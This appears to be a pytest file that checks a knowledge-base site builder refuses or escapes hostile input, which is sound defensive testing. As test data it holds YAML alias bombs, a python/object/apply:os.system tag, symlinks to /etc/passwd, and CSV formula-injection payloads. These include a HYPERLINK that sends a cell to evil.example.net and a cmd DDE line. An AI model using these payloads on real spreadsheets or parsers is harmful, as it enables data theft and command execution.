"""Hostile and careless input: every case is a clear error naming the file, never a
traceback, never a hang; nothing from outside the repository is read or published.

Each case from issue 16 is here, with the same attack in other fields and other files
(the "family" of the case): front matter, vocabularies, the glossary, the allow-list,
mkdocs.yml, training CSV files, downloads, images and pages.
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from pathlib import Path

import pytest

from conftest import write
from sofs_kb.sources import ReadError, check_size, load_yaml, parse_source
from sofs_kb.spreadsheet import safe_cell, write_csv
from training_support import add_training

KB = [sys.executable, "-m", "sofs_kb.cli"]
ENV = {**os.environ, "NO_MKDOCS_2_WARNING": "1"}

TOOL = """---
title: {title}
summary: A short summary.
type: tool
plan_sections: [learning]
audience: [health]
owner: Superleaders group
published: 2026-03-12
review_by: 2027-03-12
status: published
steps: [Do this.]
{extra}---
{body}
"""


def tool(title: str = "A tool", extra: str = "", body: str = "Body text.") -> str:
    return TOOL.format(title=title, extra=extra, body=body)


def kb(*args: str, cwd: Path, timeout: float = 120) -> subprocess.CompletedProcess:
    return subprocess.run([*KB, *args], cwd=cwd, capture_output=True, text=True, env=ENV, timeout=timeout)


def mkdocs_build(cwd: Path, timeout: float = 120) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "mkdocs", "build"], cwd=cwd, capture_output=True, text=True, env=ENV, timeout=timeout
    )


def bomb(levels: int = 9, name: str = "j") -> str:
    """YAML anchors, each reusing the last nine times: a billion values from a few lines."""
    lines = [f"{name}0: &{name}0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    for level in range(1, levels):
        lines.append(f"{name}{level}: &{name}{level} [" + ", ".join([f"*{name}{level - 1}"] * 9) + "]")
    return "\n".join(lines) + "\n"


def assert_clear(result: subprocess.CompletedProcess, *expected: str) -> None:
    output = result.stdout + result.stderr
    assert result.returncode != 0, output
    assert "Traceback" not in output, output
    for text in expected:
        assert text in output, output


# --- YAML: field names, reuse, special types -------------------------------------------------


@pytest.mark.parametrize(
    "front, shown",
    [
        ("1: x\n", "line 2: a field name must be a word"),
        ("? [a]\n: x\n", "line 2: a field name must be a word, like 'title:', not a list"),
        ("? {a: 1}\n: x\n", "not a group of fields"),
        ("true: x\n", "not true or false"),
        ("~: x\n", "not an empty value"),
        ("audience:\n  2: health\n", "line 3: a field name must be a word"),
        ("x: !!python/object/apply:os.system ['echo hi']\n", "line 2: 'python/object/apply:os.system' is a special type"),
        ("x: !!binary aGVsbG8=\n", "'binary' is a special type"),
        ("x: !!set {a, b}\n", "'set' is a special type"),
        ("order: " + "9" * 5000 + "\n", "line 2: the number is longer than 30 digits"),
        ("x: &a [*a]\n", "has a value that contains itself"),
        ("x: " + "[" * 150 + "]" * 150 + "\n", "nested more than 100 deep"),
    ],
)
def test_front_matter_that_parses_but_cannot_be_used(front: str, shown: str):
    source, problems = parse_source(f"---\n{front}title: A\n---\nBody\n", Path("x.md"), "x.md")
    assert source is None
    assert len(problems) == 1 and problems[0].path == "x.md" and problems[0].field == "front matter"
    assert shown in problems[0].reason, problems[0].reason


def test_an_alias_bomb_is_refused_at_once_and_an_ordinary_alias_still_works():
    text = "---\n" + bomb() + "tags: *j8\ntitle: A\n---\nBody\n"
    source, problems = parse_source(text, Path("x.md"), "x.md")
    assert source is None
    assert "is too big once every reused value (written with & and *) is counted" in problems[0].reason
    shared = "---\nhealth: &h [health, police]\naudience: *h\ntitle: A\n---\nBody\n"
    source, problems = parse_source(shared, Path("x.md"), "x.md")
    assert problems == [] and source.meta["audience"] == ["health", "police"]


def test_check_size_counts_reuse_and_text_length():
    wide = ["x" * 1000] * 2000  # one string, reused: 2 million characters once spelled out
    with pytest.raises(ReadError):
        check_size({"a": wide})
    check_size({"a": ["x" * 1000] * 500})  # half a million: fine
    with pytest.raises(ReadError):
        load_yaml(bomb())


@pytest.mark.parametrize(
    "where, text",
    [
        ("knowledge_bank/tool/keys.md", tool(extra="1: x\n")),
        ("knowledge_bank/tool/keys.md", tool(extra="? [a]\n: x\n")),
        ("knowledge_bank/tool/bomb.md", "---\n" + bomb() + tool().split("---\n", 2)[1].replace("tags: []", "") + "tags: *j8\n---\nBody.\n"),
        ("newsletters/2026-q4.md", "---\n1: x\ntitle: An issue\n---\nBody\n"),
        ("content/about.md", "---\n? [a]\n: x\ntitle: About\n---\n# About\n"),
        ("data/vocabularies.yml", "audiences:\n  1: x\nlocalities: {}\n"),
        ("data/vocabularies.yml", bomb() + "audiences: *j8\nlocalities: {}\n"),
        ("data/glossary.yml", "spell_out:\n  ? [a]\n  : x\n"),
        ("data/glossary.yml", bomb() + "spell_out: *j8\n"),
        ("data/check-allow-list.yml", bomb() + "entries: *j8\n"),
    ],
)
def test_bad_yaml_in_any_file_is_a_clear_error_from_check_and_build(site_dir: Path, where: str, text: str):
    write(site_dir / where, text)
    checked = kb("check", cwd=site_dir, timeout=60)
    assert_clear(checked, where)
    built = kb("build", cwd=site_dir, timeout=60)
    assert_clear(built, where)
    assert not (site_dir / "site").exists()


def test_an_alias_bomb_in_plugin_options_stops_kb_and_plain_mkdocs_quickly(site_dir: Path):
    config = site_dir / "mkdocs.yml"
    text = config.read_text(encoding="utf-8")
    text = "x-anchors:\n" + "".join("  " + line + "\n" for line in bomb().splitlines()) + text
    text = text.replace("allowed_email_domains: [example.org]", "allowed_email_domains: *j8")
    config.write_text(text, encoding="utf-8")
    assert_clear(kb("build", cwd=site_dir, timeout=30), "mkdocs.yml: is too big once every reused value")
    assert_clear(kb("check", cwd=site_dir, timeout=30), "mkdocs.yml: is too big")
    result = mkdocs_build(site_dir, timeout=30)
    assert result.returncode != 0
    assert "Plugin 'sofs/checks' option 'options': is too big" in result.stderr


# --- training CSV ------------------------------------------------------------------------------

HEADER = "course,start,end,locality,venue,places,booked,status,booking,attended,evaluation"
ROW = "foundation,2027-01-19 09:30,2027-01-19 16:30,norwich,Hall,{places},{booked},{status},,{attended},{evaluation}"
EVENTS = "data/training/2026-27.csv"


def events(*rows: str, header: str = HEADER) -> str:
    return header + "\n" + "".join(row + "\n" for row in rows)


def row(places="30", booked="0", status="open", attended="", evaluation="") -> str:
    return ROW.format(places=places, booked=booked, status=status, attended=attended, evaluation=evaluation)


@pytest.mark.parametrize(
    "content, expected",
    [
        (events(row(places="1000000000")), "row 2: places: 1000000000 is more than 1,000"),
        (events(row(places="1" + "0" * 5000)), "row 2: places: is 5,001 characters long; the most is 1,000"),
        (events(row(places="1" + "0" * 500)), "row 2: places: 1" + "0" * 100),
        (events(row(booked="500", status="full")), "row 2: booked: 500 is more than the 30 places"),
        (events(row(booked="500", status="delivered", attended="20", evaluation="4")), "booked: 500 is more than"),
        (events(row(places="٣٠")), "row 2: places: '٣٠' is not a whole number written with the digits 0 to 9"),
        (events(row(booked="٥")), "row 2: booked: '٥' is not a whole number written with the digits 0 to 9"),
        (events(row(places="１２")), "places: '１２' is not a whole number written with the digits 0 to 9"),
        (events(row(places="1_000")), "places: '1_000' is not a whole number"),
        (events(row(status="delivered", attended="٢", booked="3")), "attended: '٢' is not a whole number"),
        (events(row(status="delivered", attended="2", booked="3", evaluation="٤.٥")), "evaluation: '٤.٥' is not a number"),
        (events(row(status="delivered", attended="2", booked="3", evaluation="nan")), "evaluation: 'nan' is not a number"),
        (events(row().replace("2027-01-19 09:30", "٢٠٢٧-01-19 09:30")), "row 2: start: '٢٠٢٧-01-19 09:30' is not a date"),
        (events(row().replace("Hall", '"' + "x" * 140_000 + '"')), "row 2: cannot be read: a cell is far too long"),
        (events(row().replace("Hall", "x" * 5000)), "row 2: venue: is 5,000 characters long; the most is 1,000"),
        (events(row().replace(",Hall,", ',"Hall,')), "row 2: places: is empty"),  # a quote never closed
        (events(*[row(places=str(n % 900 + 1)).replace("2027-01-19", f"2027-01-{n % 28 + 1:02d}").replace("norwich", "norwich") for n in range(5002)]),
         "is past the 5,000 rows a file may have"),
    ],
)
def test_impossible_training_rows_are_clear_errors(site_dir: Path, content: str, expected: str):
    add_training(site_dir)
    write(site_dir / EVENTS, content)
    result = kb("check", cwd=site_dir, timeout=60)
    assert_clear(result, EVENTS, expected[:200])


def test_an_overbooked_column_allows_more_booked_than_places(site_dir: Path):
    add_training(site_dir)
    write(site_dir / EVENTS, events(row(booked="32", status="full") + ",yes", header=HEADER + ",overbooked"))
    result = kb("check", cwd=site_dir, timeout=60)
    assert "booked" not in result.stdout, result.stdout
    write(site_dir / EVENTS, events(row(booked="32", status="full") + ",maybe", header=HEADER + ",overbooked"))
    assert_clear(kb("check", cwd=site_dir, timeout=60), "overbooked: 'maybe' should be yes or left empty")


def test_a_course_target_in_the_billions_is_refused(site_dir: Path):
    add_training(site_dir)
    course = site_dir / "content/training/foundation.md"
    course.write_text(course.read_text(encoding="utf-8").replace("places: 300", "places: 1000000000"), encoding="utf-8")
    result = kb("check", cwd=site_dir, timeout=60)
    assert_clear(result, "content/training/foundation.md", "yearly_target.places")


# --- files from outside the repository ---------------------------------------------------------


def test_a_link_to_etc_passwd_is_refused_and_never_published(site_dir: Path):
    (site_dir / "knowledge_bank/tool/passwd.txt").symlink_to("/etc/passwd")
    write(site_dir / "knowledge_bank/tool/uses-passwd.md", tool(title="Uses a download", body="Get [the list](passwd.txt)."))
    for result in (kb("check", cwd=site_dir), kb("build", cwd=site_dir)):
        assert_clear(result, "knowledge_bank/tool/passwd.txt", "file: is a link to something outside the repository")
    result = mkdocs_build(site_dir)
    assert result.returncode != 0 and "passwd.txt" in result.stderr
    root_line = Path("/etc/passwd").read_text(encoding="utf-8").splitlines()[0]
    if (site_dir / "site").exists():
        assert not any(root_line in path.read_text(errors="replace") for path in (site_dir / "site").rglob("*") if path.is_file())


@pytest.mark.parametrize(
    "where, target, reason",
    [
        ("knowledge_bank/tool/outside.md", "OUTSIDE/item.md", "is a link to something outside the repository"),
        ("knowledge_bank/tool/pic.png", "OUTSIDE/pic.png", "is a link to something outside the repository"),
        ("content/downloads/form.pdf", "OUTSIDE/form.pdf", "is a link to something outside the repository"),
        ("content/linked-page.md", "OUTSIDE/item.md", "is a link to something outside the repository"),
        ("newsletters/2026-q4.md", "OUTSIDE/item.md", "is a link to something outside the repository"),
        ("data/vocabularies.yml", "OUTSIDE/vocabularies.yml", "is a link to something outside the repository"),
        ("data/glossary.yml", "OUTSIDE/glossary.yml", "is a link to something outside the repository"),
        ("data/training/2026-27.csv", "OUTSIDE/events.csv", "is a link to something outside the repository"),
        ("data/feeds/practice-research.xml", "OUTSIDE/feed.xml", "is a link to something outside the repository"),
        ("content/git-config.md", ".git/config", "is a link into the repository's .git folder"),
        ("knowledge_bank/practice-example", "OUTSIDE", "is a link to something outside the repository"),
        ("content/inside", "knowledge_bank", "is a link to a folder"),
        ("content/nowhere.png", "OUTSIDE/missing.png", "is a link that leads nowhere"),
    ],
)
def test_links_out_of_the_repository_are_refused_everywhere(site_dir: Path, tmp_path: Path, where, target, reason):
    outside = tmp_path / "outside"
    outside.mkdir()
    write(outside / "item.md", tool(title="From outside"))
    for name in ("pic.png", "form.pdf", "vocabularies.yml", "glossary.yml", "events.csv", "feed.xml"):
        (outside / name).write_text((site_dir / "data/vocabularies.yml").read_text(encoding="utf-8"), encoding="utf-8")
    (site_dir / ".git").mkdir(exist_ok=True)
    (site_dir / ".git/config").write_text("[core]\n", encoding="utf-8")
    link = site_dir / where
    if link.is_dir() and not link.is_symlink():
        import shutil

        shutil.rmtree(link)
    elif link.exists():
        link.unlink()
    link.parent.mkdir(parents=True, exist_ok=True)
    link.symlink_to(target.replace("OUTSIDE", str(outside)) if target.startswith("OUTSIDE") else site_dir / target)
    assert_clear(kb("check", cwd=site_dir), f"{where}:1: fields: ", reason)
    assert_clear(kb("build", cwd=site_dir), f"{where}: ", reason)
    assert not (site_dir / "site").exists()


def test_a_named_pipe_is_refused_without_waiting_for_it(site_dir: Path):
    os.mkfifo(site_dir / "content/pipe.md")
    os.mkfifo(site_dir / "knowledge_bank/tool/pipe.md")
    result = kb("check", cwd=site_dir, timeout=30)
    assert_clear(result, "content/pipe.md", "file: is not an ordinary file", "knowledge_bank/tool/pipe.md")
    assert_clear(kb("build", cwd=site_dir, timeout=30), "content/pipe.md")


def test_links_that_stay_inside_the_repository_are_fine(site_dir: Path):
    write(site_dir / "shared/form.pdf", "%PDF-1.4\n")
    (site_dir / "content/form.pdf").symlink_to(site_dir / "shared/form.pdf")
    result = kb("check", cwd=site_dir)
    assert "content/form.pdf" not in result.stdout + result.stderr


@pytest.mark.parametrize(
    "where",
    [
        "knowledge_bank/tool/shouting.MD",
        "knowledge_bank/tool/mixed.Md",
        "knowledge_bank/tool/long.markdown",
        "newsletters/2027-q1.MD",
        "content/about-us.MD",
        "content/other.markdown",
        "content/plan/extra.mdown",
    ],
)
def test_markdown_files_with_other_endings_are_errors_never_skipped(site_dir: Path, where: str):
    write(site_dir / where, tool(title="Shouting"))
    for result in (kb("check", cwd=site_dir), kb("build", cwd=site_dir)):
        assert_clear(result, where, f"file name: ends in '.{where.rsplit('.', 1)[1]}'")
    assert not (site_dir / "site").exists()


# --- CSV exports ----------------------------------------------------------------------------

FORMULAS = ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", " =1", '=HYPERLINK("https://evil.example.net/?x="&A1,"Click")']


@pytest.mark.parametrize("text", FORMULAS)
def test_safe_cell_escapes_every_formula_start(text: str):
    out = io.StringIO()
    write_csv(out, ["text", "number"], [[text, -3], [None, 2.5]])
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert rows[1] == ["'" + text.replace("\r", "\n"), "-3"]  # a lone CR would start a new row
    assert rows[2] == ["", "2.5"]
    assert safe_cell("Safety planning") == "Safety planning"
    assert safe_cell(True) == "True"


def test_training_report_csv_escapes_a_formula_course_title(site_dir: Path):
    add_training(site_dir)
    course = site_dir / "content/training/foundation.md"
    text = course.read_text(encoding="utf-8")
    title = '=HYPERLINK("https://evil.example.net/?x="&A1,"Click")'
    lines = [f"title: '{title}'" if line.startswith("title:") else line for line in text.splitlines()]
    course.write_text("\n".join(lines) + "\n", encoding="utf-8")
    result = kb("training", "report", "--format", "csv", "--plan-year", "2026-27", cwd=site_dir)
    assert result.returncode == 0, result.stderr
    cells = [cell for row in csv.reader(io.StringIO(result.stdout)) for cell in row]
    assert "'" + title in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), cells


def test_impact_report_csv_escapes_a_formula_owner(site_dir: Path):
    stale = tool(title="Old tool").replace("owner: Superleaders group", "owner: \"=cmd|' /C calc'!A0\"")
    stale = stale.replace("review_by: 2027-03-12", "review_by: 2026-05-01")
    write(site_dir / "knowledge_bank/tool/old-tool.md", stale)
    result = kb("report", "--format", "csv", "-o", "tables", cwd=site_dir)  # one table per file
    assert result.returncode == 0, result.stderr
    cells = [cell for path in sorted((site_dir / "tables").glob("*.csv"))
             for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))) for cell in row]
    assert "'=cmd|' /C calc'!A0" in cells
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
